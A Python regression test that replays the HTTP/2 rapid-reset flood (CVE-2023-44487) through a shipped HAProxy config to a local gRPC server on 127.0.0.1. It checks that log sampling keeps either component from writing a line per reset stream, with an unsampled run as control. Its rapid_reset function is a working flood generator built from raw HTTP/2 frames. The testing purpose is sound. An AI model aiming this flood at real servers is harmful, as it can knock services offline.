#!/usr/bin/python3
"""A rapid-reset flood (CVE-2023-44487 pattern) through the shipped HAProxy
config, deploy/haproxy/haproxy.cfg, in front of a real posenc_server on
127.0.0.1: neither HAProxy nor posenc writes a log line per reset stream.

Each stream is HEADERS for a GetRows call followed at once by RST_STREAM
(CANCEL), on one HTTP/2 connection, written with the standard library only
(HPACK literals without indexing or Huffman coding). As a control, the same
flood through the same config with its `sample` removed must log most
streams: that is the line per reset stream the shipped config avoids.

Usage: reset_flood_log_test.py --server BIN --haproxy BIN --haproxy-cfg CFG
"""
import argparse
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile
import time

STREAMS = 20000
GET_ROWS = "/posenc.v1.PositionalEncoding/GetRows"


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", kind, flags, stream) + payload)


def hpack_literal(name, value):
    out = b"\x00"
    for s in (name.encode(), value.encode()):
        assert len(s) < 127
        out += bytes([len(s)]) + s
    return out


def request_block(path):
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", "127.0.0.1"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    return b"".join(hpack_literal(n, v) for n, v in headers)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_for(predicate, seconds, what):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.05)
    raise RuntimeError(f"timed out waiting for {what}")


def can_connect(port):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
        return True
    except OSError:
        return False


def read(path):
    with open(path, "rb") as f:
        return f.read().decode(errors="replace")


def rapid_reset(port, streams):
    """HEADERS + RST_STREAM for `streams` streams, then a drained close."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))
    block = request_block(GET_ROWS)
    batch = []
    for i in range(streams):
        stream = 2 * i + 1
        batch.append(frame(0x1, 0x4, stream, block))  # END_HEADERS
        batch.append(frame(0x3, 0, stream, struct.pack(">I", 0x8)))  # CANCEL
        if len(batch) >= 200:
            sock.sendall(b"".join(batch))
            batch = []
            # Keep reading so that the proxy never blocks on its writes.
            sock.setblocking(False)
            try:
                while sock.recv(1 << 16):
                    pass
            except (BlockingIOError, InterruptedError):
                pass
            sock.setblocking(True)
    sock.sendall(b"".join(batch) + frame(0x7, 0, 0, struct.pack(">II", 0, 0)))
    sock.settimeout(2)
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass
    sock.close()


def flood_through(args, cfg_text, tmp, label):
    """Starts posenc and HAProxy with `cfg_text`, floods, stops both; returns
    (HAProxy's log, posenc's log lines after start-up)."""
    cfg = os.path.join(tmp, f"{label}.cfg")
    with open(cfg, "w") as f:
        f.write(cfg_text)
    server_err = os.path.join(tmp, f"{label}-posenc.err")
    proxy_log = os.path.join(tmp, f"{label}-haproxy.log")
    server = subprocess.Popen(
        [args.server, "--listen=127.0.0.1:0", "--threads=2",
         "--cache_bytes=8388608", "--lame_duck_seconds=0"],
        stdout=subprocess.DEVNULL, stderr=open(server_err, "wb"))
    proxy = None
    try:
        wait_for(lambda: re.search(r"\(port (\d+)\)", read(server_err)), 10,
                 "posenc to listen")
        port = re.search(r"\(port (\d+)\)", read(server_err)).group(1)
        startup = len(read(server_err))
        proxy_port = free_port()
        env = dict(os.environ, POSENC_PROXY_BIND=f"127.0.0.1:{proxy_port}",
                   POSENC_1=f"127.0.0.1:{port}", POSENC_2=f"127.0.0.1:{port}",
                   POSENC_3=f"127.0.0.1:{port}")
        proxy = subprocess.Popen([args.haproxy, "-db", "-f", cfg], env=env,
                                 stdout=open(proxy_log, "wb"),
                                 stderr=subprocess.STDOUT)
        wait_for(lambda: can_connect(proxy_port), 10, "HAProxy to listen")
        time.sleep(1.5)  # the health checks mark the replicas UP
        before = len(read(proxy_log))
        rapid_reset(proxy_port, STREAMS)
        time.sleep(1)  # HAProxy writes the lines of the last streams
        log = read(proxy_log)[before:]
        alive = can_connect(proxy_port) and server.poll() is None
        return log, read(server_err)[startup:], alive
    finally:
        for p in (proxy, server):
            if p is not None and p.poll() is None:
                p.terminate()
                try:
                    p.wait(timeout=10)
                except subprocess.TimeoutExpired:
                    p.kill()
                    p.wait()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--server", required=True)
    parser.add_argument("--haproxy", default="/usr/sbin/haproxy")
    parser.add_argument("--haproxy-cfg", required=True)
    args = parser.parse_args()
    with open(args.haproxy_cfg) as f:
        shipped = f.read()
    failures = []
    with tempfile.TemporaryDirectory() as tmp:
        log, posenc_log, alive = flood_through(args, shipped, tmp, "shipped")
        lines = [l for l in log.splitlines() if l.strip()]
        print(f"shipped config: {STREAMS} reset streams -> {len(lines)} "
              f"HAProxy log lines, {len(posenc_log.splitlines())} posenc "
              f"log lines")
        if len(lines) > STREAMS // 100:
            failures.append(f"HAProxy wrote {len(lines)} lines for "
                            f"{STREAMS} reset streams:\n" +
                            "\n".join(lines[:5]))
        if posenc_log.strip():
            failures.append("posenc logged reset streams:\n" +
                            "\n".join(posenc_log.splitlines()[:5]))
        if not alive:
            failures.append("HAProxy or posenc died")
        # The control: the same config logging every failed call.
        unsampled = shipped.replace(" sample 1:1000", "")
        if unsampled == shipped:
            failures.append("the shipped config has no `sample 1:1000` left "
                            "to remove: update this test")
        else:
            log, _, _ = flood_through(args, unsampled, tmp, "unsampled")
            lines = [l for l in log.splitlines() if l.strip()]
            print(f"control without sampling: {len(lines)} HAProxy log lines")
            if len(lines) < STREAMS // 2:
                failures.append(
                    f"control: without `sample`, {len(lines)} lines for "
                    f"{STREAMS} reset streams; the flood no longer makes "
                    "failed-call lines, so this test proves nothing")
    for failure in failures:
        print(f"FAIL: {failure}")
    print("PASS" if not failures else f"{len(failures)} failure(s)")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
